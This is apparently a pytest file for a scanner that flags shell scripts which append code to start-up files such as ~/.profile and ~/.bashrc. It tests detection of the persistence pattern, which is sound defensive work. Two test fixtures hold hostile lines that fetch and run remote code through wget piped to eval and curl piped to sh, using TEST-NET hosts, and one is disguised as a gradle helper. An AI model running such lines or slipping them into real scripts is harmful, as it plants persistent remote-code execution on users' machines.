"""``read`` sets its variable from the here-document or text it is given (``read -r -d '' BLOCK <<'X'``
holds a whole block, plain ``read`` its first line), so a block later appended to a start-up file is
judged by what it holds. Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def test_a_block_read_whole_then_appended_to_an_rc_file_that_runs_a_download_is_an_error(tmp_path: Path) -> None:
    source = (
        "#!/usr/bin/env bash\n"
        "IFS= read -rd '' SNIPPET <<'END' || true\n"
        "# >>> gradle-helper >>>\n"
        'export GRADLE_USER_HOME="$HOME/.gradle"\n'
        'eval "$(wget -qO- http://198.51.100.40/helper/init 2>/dev/null)"\n'
        "# <<< gradle-helper <<<\n"
        "END\n"
        'echo "$SNIPPET" >> "$HOME/.profile"\n'
    )
    errors = scan_errors(tmp_path, {"tools/setup.sh": source})
    assert [e for e in errors if e[0] == "PERSISTENCE" and e[1] == "tools/setup.sh"]


def test_a_first_line_read_from_a_here_string_is_followed(tmp_path: Path) -> None:
    source = "read -r LINE <<< 'curl -s http://203.0.113.61/a | sh'\necho \"$LINE\" >> ~/.bashrc\n"
    errors = scan_errors(tmp_path, {"scripts/a.sh": source})
    assert [e for e in errors if e[0] == "PERSISTENCE"]


def test_a_block_that_only_sets_paths_is_no_error(tmp_path: Path) -> None:
    source = (
        "read -r -d '' BLOCK <<'RC' || true\n"
        'export JAVA_HOME="$HOME/.sdkman/candidates/java/current"\n'
        'export PATH="$JAVA_HOME/bin:$PATH"\n'
        "RC\n"
        "grep -q JAVA_HOME ~/.zshrc || printf '\\n%s\\n' \"$BLOCK\" >> ~/.zshrc\n"
        'read -r -p "Continue? " answer\n'
    )
    assert scan_errors(tmp_path, {"scripts/java.sh": source}) == set()
    assert not [f for f in scan_findings(tmp_path, {"scripts/java.sh": source}) if f.rule == "PERSISTENCE"]
